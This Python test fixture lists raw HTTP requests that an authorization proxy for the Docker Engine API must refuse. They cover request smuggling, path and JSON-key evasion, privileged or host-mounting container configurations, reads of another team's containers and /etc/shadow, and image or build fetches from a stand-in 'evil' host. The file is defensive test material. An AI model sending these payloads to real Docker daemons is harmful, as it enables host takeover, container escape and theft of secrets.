"""The attacks, by root cause (docs/security.md, "What goes wrong in proxies"). Each is a tuple:
(name, identity, request as bytes). All of them must be refused, and not one byte may reach the
engine. A and B are full ids of the containers of team-a and team-b; dev is of team-a."""

import json

A, B, C = "a" * 64, "b" * 64, "c" * 64


def request(method, target, body=None, headers=(), kind="application/json"):
    if isinstance(body, (dict, list)):
        body = json.dumps(body, ensure_ascii=False)
    if isinstance(body, str):
        body = body.encode()
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: x", "Connection: close"] + list(headers)
    if body is not None:
        lines += ["Content-Type: " + kind, "Content-Length: %d" % len(body)]
    return "\r\n".join(lines).encode() + b"\r\nAUTH\r\n" + (body or b"")


def create(body, name="x1"):
    return request("POST", "/v1.41/containers/create?name=" + name, body)


def raw(text, body=b""):
    return text.encode("latin-1") + body


PLAIN = {"Image": "busybox", "Cmd": ["top"]}
EVIL = '{"Image":"busybox","HostConfig":{"Privileged":true}}'


def parser_differences():
    """The proxy reads one thing, the engine another."""
    paths = ["/v1.41/containers/%63reate", "//v1.41/containers/create", "/v1.41//containers/create",
             "/v1.41/containers/./create", "/v1.41/info/../containers/create",
             "/v1.41/info/%2e%2e/containers/create", "/v1.41/info/..%2fcontainers/create",
             "/%761.41/containers/create", "/v1.41/containers%2Fcreate", "/v1.41/containers/create/",
             "/v1.41/Containers/Create", "/v1.41/containers/create%00", "/v1.41/containers/create%0d%0a",
             "/v1.41/containers/create;a=b", "/v1.41/containers/create%3fname=x", "/v1.41/v1.41/containers/create",
             "/v01.41/containers/create", "/v1.41.0/containers/create", "/v/containers/create",
             "/v1.99/containers/create", "http://x/v1.41/containers/create", "/v1.41/_ping/../containers/create"]
    for path in paths:
        yield "path " + path, "readonly", request("POST", path, PLAIN)
    for method in ("post", "Post", "POST\t", "PATCH", "TRACE", "CONNECT", "GET\x0bPOST", "PROPFIND"):
        yield "method " + repr(method), "readonly", request(method, "/v1.41/containers/create", PLAIN)
    override = ("X-HTTP-Method-Override: POST", "X-Method-Override: POST", "X-HTTP-Method: POST")
    yield "method override", "readonly", request("GET", "/v1.41/containers/create", PLAIN, override)
    head = "POST /v1.41/containers/%s/start HTTP/1.1\r\nHost: x\r\n" % B
    smuggled = "GET /v1.41/info HTTP/1.1\r\nHost: x\r\n%sAUTH\r\n"
    framings = ["Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 0\r\nContent-Length: 44\r\n",
                "Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n", "Transfer-Encoding : chunked\r\n",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
                " Content-Length: 0\r\n", "Content-Length: +0\r\n", "Content-Length: 0x0\r\n",
                "Content-Length: 0, 44\r\n", "Transfer-Encoding: chunked, identity\r\n",
                "Content-Length:\r\n 0\r\n"]
    for framing in framings:
        yield "framing " + repr(framing), "readonly", raw(smuggled % framing, b"0\r\n\r\n" + head.encode() + b"\r\n")
    for line in ("GET  /v1.41/info HTTP/1.1", "GET /v1.41/info\tHTTP/1.1", "GET /v1.41/info HTTP/2.0",
                 "GET /v1.41/info", "PRI * HTTP/2.0"):
        yield "request line " + repr(line), "readonly", raw(line + "\r\nHost: x\r\nAUTH\r\n", head.encode() + b"\r\n")


def json_differences():
    """The engine folds keys and merges duplicates; the checker must see what it sees."""
    bodies = [EVIL.replace("HostConfig", "hostconfig"), EVIL.replace("Privileged", "PRIVILEGED"),
              EVIL.replace("HostConfig", "ho\u017ftConfig"), EVIL.replace("Privileged", "privi\\u006ceged"),
              EVIL.replace("HostConfig", "Host\\u0043onfig"),
              '{"HostConfig":{"Privileged":false},"hostconfig":{"Privileged":true},"Image":"b"}',
              '{"HostConfig":{"Privileged":true},"hostConfig":{"Memory":1},"Image":"b"}',
              '{"HostConfig":{"Privileged":false,"privileged":true},"Image":"b"}',
              '{"HostConfig":{"Privileged":true,"privileged":false},"Image":"b"}',
              '{"HostConfig":{"Networ\u212aMode":"host"},"Image":"b"}',
              '{"HostConfig":{"Bind\u017f":["/:/h"]},"Image":"b"}',
              '{"HostConfig":{"Binds":["/\\u003a/h:rw"],"binds":["/:/h"]},"Image":"b"}',
              EVIL + "x", EVIL + '{"Image":"b"}', "[" + EVIL + "]", EVIL[:-1], "\ufeff" + EVIL,
              EVIL.replace("true", "True"), EVIL.replace("true", "1"), EVIL.replace("true", '"true"'),
              EVIL.replace('"HostConfig"', "/**/\"HostConfig\""), EVIL.replace("{", "{,", 1),
              '{"a":' * 200 + "1" + "}" * 200]
    for body in bodies:
        yield "json " + body[:70], "dev", create(body)
    yield "json in latin-1", "dev", create(b'{"Image":"b","HostConfig":{"Privileged":true,"x":"\xff"}}')


def second_ways():
    """The same power by another field or another call."""
    host = [{"Binds": ["/:/h"]}, {"Binds": ["/etc:/e:ro"]}, {"Binds": ["/var/run/docker.sock:/s"]},
            {"Binds": ["//:/h"]}, {"Binds": ["/srv/../:/h"]},
            {"Mounts": [{"Type": "bind", "Source": "/", "Target": "/h"}]},
            {"Mounts": [{"Type": "BIND", "Source": "/", "Target": "/h"}]},
            {"Mounts": [{"Source": "/", "Target": "/h", "Type": "npipe"}]},
            {"Mounts": [{"Type": "volume", "Source": "v", "Target": "/h", "VolumeOptions": {"DriverConfig": {
                "Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}}}]},
            {"Mounts": [{"Type": "volume", "Source": "v", "Target": "/h", "VolumeOptions": {"DriverConfig": {
                "Name": "evil/plugin"}}}]},
            {"VolumeDriver": "evil/plugin", "Binds": ["v:/h"]},
            {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/d", "CgroupPermissions": "rwm"}]},
            {"DeviceRequests": [{"Driver": "nvidia", "Count": -1}]}, {"DeviceCgroupRules": ["a *:* rwm"]},
            {"CapAdd": ["ALL"]}, {"CapAdd": ["sys_admin"]}, {"CapAdd": ["CAP_SYS_ADMIN"]},
            {"SecurityOpt": ["seccomp=unconfined"]}, {"SecurityOpt": ["apparmor:unconfined"]},
            {"SecurityOpt": ["label=disable"]}, {"SecurityOpt": ["systempaths=unconfined"]},
            {"MaskedPaths": []}, {"ReadonlyPaths": []}, {"NetworkMode": "host"}, {"PidMode": "host"},
            {"IpcMode": "host"}, {"UTSMode": "host"}, {"UsernsMode": "host"}, {"CgroupnsMode": "host"},
            {"CgroupParent": "/"}, {"Cgroup": "container:x"}, {"Runtime": "evil"}, {"Sysctls": {"kernel.core_pattern": "|x"}},
            {"LogConfig": {"Type": "syslog", "Config": {"syslog-address": "tcp://evil:1"}}},
            {"StorageOpt": {"size": "1000G"}}, {"OomKillDisable": True}, {"OomScoreAdj": -1000}]
    for config in host:
        yield "create " + json.dumps(config)[:70], "dev", create(dict(PLAIN, HostConfig=config))
    yield "endpoint host", "dev", create(dict(PLAIN, NetworkingConfig={"EndpointsConfig": {"host": {}}}))
    for method, target, body in (
            ("POST", "/volumes/create", {"Name": "v", "DriverOpts": {"type": "none", "o": "bind", "device": "/"}}),
            ("POST", "/volumes/create", {"Name": "v", "Driver": "evil/plugin"}),
            ("POST", "/networks/create", {"Name": "n", "Driver": "macvlan", "Options": {"parent": "eth0"}}),
            ("POST", "/networks/create", {"Name": "n", "Driver": "host"}),
            ("POST", "/networks/create", {"Name": "n", "ConfigFrom": {"Network": "x"}, "Driver": "ipvlan"}),
            ("POST", "/containers/%s/exec" % A, {"Cmd": ["sh"], "Privileged": True}),
            ("POST", "/containers/%s/update" % A, {"CgroupParent": "/"}),
            ("POST", "/containers/%s/update" % A, {"Devices": [{"PathOnHost": "/dev/sda"}]}),
            ("POST", "/plugins/pull?remote=evil/plugin", []), ("POST", "/plugins/x/enable", None),
            ("POST", "/services/create", {"TaskTemplate": {}}), ("POST", "/swarm/init", {}),
            ("POST", "/images/create?fromSrc=http://evil/x.tar&repo=busybox", None),
            ("POST", "/images/create?fromSrc=-&repo=busybox", "tar"),
            ("POST", "/images/load", "tar"), ("POST", "/images/x/tag?repo=busybox", None),
            ("POST", "/build?remote=http://evil/", "tar"), ("POST", "/build?networkmode=host", "tar"),
            ("POST", "/build?version=2&session=x", None), ("POST", "/session", None), ("POST", "/grpc", None),
            ("POST", "/nodes/stub-1/update?version=1", {"Availability": "drain"}), ("DELETE", "/nodes/stub-1?force=1", None)):
        yield "%s %s" % (method, target), "dev", request(method, "/v1.41" + target, body)


def check_then_use():
    """One object is checked, another is used."""
    for reference in (B, B[:12], "b", "beta", "stub-1/beta", "%62eta", "/beta", "STUB:ENGINE/beta", "common", C):
        yield "inspect " + reference[:20], "dev", request("GET", "/v1.41/containers/%s/json" % reference)
        yield "kill " + reference[:20], "dev", request("POST", "/v1.41/containers/%s/kill" % reference)
    for mode in ("container:beta", "container:" + B[:5], "container:stub-1/beta"):
        for key in ("NetworkMode", "PidMode", "IpcMode"):
            yield "%s %s" % (key, mode), "dev", create(dict(PLAIN, HostConfig={key: mode}))
    for config in ({"VolumesFrom": ["beta"]}, {"VolumesFrom": [B[:6] + ":ro"]}, {"Links": ["beta:b"]},
                   {"Binds": ["vol-b:/d"]}, {"Binds": ["stub-1/vol-b:/d"]}, {"NetworkMode": "net-b"},
                   {"NetworkMode": "3" * 64}, {"Mounts": [{"Type": "volume", "Source": "vol-b", "Target": "/d"}]}):
        yield "create " + json.dumps(config), "dev", create(dict(PLAIN, HostConfig=config))
    yield "endpoint net-b", "dev", create(dict(PLAIN, NetworkingConfig={"EndpointsConfig": {"net-b": {}}}))
    yield "owner by label", "dev", create(dict(PLAIN, Labels={"berth.owner": "team-b"}))
    yield "owner by folded label", "dev", create('{"Image":"b","labels":{},"LABELS":{"berth.owner":"team-b"}}')
    for method, target, body in (
            ("POST", "/commit?container=beta&repo=x", None), ("GET", "/networks/net-b", None),
            ("DELETE", "/networks/net-b", None), ("GET", "/volumes/vol-b", None), ("DELETE", "/volumes/vol-b", None),
            ("POST", "/networks/net-a/connect", {"Container": "beta"}), ("POST", "/networks/net-b/connect", {"Container": "alpha"}),
            ("POST", "/networks/net-a/disconnect", {"container": "alpha", "Container": "beta"}),
            ("POST", "/containers/beta/rename?name=mine", None), ("POST", "/containers/beta/exec", {"Cmd": ["sh"]}),
            ("POST", "/containers/create?name=beta", PLAIN), ("GET", "/containers/beta/archive?path=/", None),
            ("PUT", "/containers/beta/archive?path=/", "tar"), ("GET", "/containers/beta/attach/ws", None),
            ("POST", "/containers/alpha/rename?name=beta", None), ("POST", "/volumes/create", {"Name": "vol-b"}),
            ("POST", "/exec/%s/start" % ("9" * 64), {})):
        yield "%s %s" % (method, target), "dev", request(method, "/v1.41" + target, body)


def unknown_things():
    """What is unknown or too big must not be passed on."""
    for target in ("/v1.41/checkpoint", "/v1.41/containers", "/v1.41/container/a/json", "/v1.41/", "/debug/vars",
                   "/v1.41/debug/pprof/heap", "/v1.41/images/viz", "/v1.41/containers/ps", "/metrics", "/libpod/info",
                   "/v4.0.0/libpod/containers/json", "/_berth/v1/nothing", "/_berth/v1/tokens"):
        yield "GET " + target, "dev", request("GET", target)
    yield "unknown field", "dev", create(dict(PLAIN, HostConfig={"BrandNewPower": True}))
    yield "oversize body", "dev", create('{"Image":"%s"}' % ("b" * (9 << 20)))
    yield "oversize head", "dev", request("GET", "/v1.41/info?" + "a" * (1100 << 10))
    yield "128 headers and more", "dev", request("GET", "/v1.41/info", headers=["X-%d: y" % i for i in range(300)])
    yield "form body", "dev", request("POST", "/v1.41/containers/create", "Image=b", kind="application/x-www-form-urlencoded")
    yield "text body", "dev", request("POST", "/v1.41/containers/create", EVIL, kind="text/plain")
    yield "no content type", "dev", request("POST", "/v1.41/containers/create", EVIL, kind="")
    yield "h2c upgrade", "dev", request("GET", "/v1.41/nothing", headers=["Upgrade: h2c", "Connection: Upgrade"])
    yield "nobody", None, request("GET", "/v1.41/containers/json")
    yield "nobody creates", None, create(PLAIN)
    yield "wrong token", "stranger", request("GET", "/v1.41/containers/json")
    yield "two tokens", "dev", request("GET", "/v1.41/containers/json", headers=["Authorization: Bearer tok-ops"])


def harmful_reads():
    """GET is not harmless: files, secrets, terminals."""
    for method, target in (
            ("GET", "/containers/alpha/archive?path=/etc/shadow"), ("HEAD", "/containers/alpha/archive?path=/"),
            ("GET", "/containers/alpha/export"), ("GET", "/containers/alpha/attach/ws?stdin=1&stream=1"),
            ("POST", "/containers/alpha/attach?stdin=1&stream=1"), ("GET", "/images/get?names=busybox"),
            ("GET", "/images/busybox/get"), ("GET", "/swarm/unlockkey"), ("GET", "/debug/pprof/cmdline"),
            ("GET", "/containers/alpha/checkpoints"), ("GET", "/distribution/busybox/json"),
            ("GET", "/plugins/privileges?remote=x"), ("POST", "/auth"), ("POST", "/images/create?fromImage=b"),
            ("POST", "/containers/alpha/resize?h=1&w=1"), ("POST", "/containers/alpha/exec"), ("POST", "/build/prune"),
            ("POST", "/containers/prune"), ("POST", "/commit?container=alpha"), ("DELETE", "/containers/alpha"),
            ("POST", "/containers/alpha/stop"), ("PUT", "/containers/alpha/archive?path=/"), ("GET", "/secrets"),
            ("GET", "/configs")):
        yield "%s %s" % (method, target), "readonly", request(method, "/v1.41" + target)


def leaks():
    """Allowed calls whose answers must hold nothing of team-b's: (name, identity, request)."""
    def filters(**values):
        return "filters=" + "".join("%%%02X" % byte for byte in json.dumps(values).encode())
    for target in ("/containers/json?all=1", "/containers/json?all=1&size=1", "/containers/json?limit=99",
                   "/containers/json?all=1&" + filters(label=["berth.owner=team-b"]),
                   "/containers/json?all=1&" + filters(name=["beta"]), "/containers/json?all=1&" + filters(id=["b"]),
                   "/containers/json?all=1&" + filters(ancestor=["busybox"]),
                   "/containers/json?all=1&" + filters(network=["net-b"]), "/networks", "/networks/",
                   "/networks?" + filters(name=["net-b"]), "/networks?" + filters(label=["berth.owner"]),
                   "/volumes", "/volumes?" + filters(name=["vol-b"]), "/info", "/system/df", "/version",
                   "/events?since=1&until=2000000000", "/nodes", "/tasks", "/images/json"):
        yield target, "dev", request("GET", "/v1.41" + target)
    for key in ("before", "since"):
        for other in ("beta", B[:9], "nothing"):
            yield "%s=%s" % (key, other), "dev", request("GET", "/v1.41/containers/json?" + filters(**{key: [other]}))


ALL = (parser_differences, json_differences, second_ways, check_then_use, unknown_things, harmful_reads)
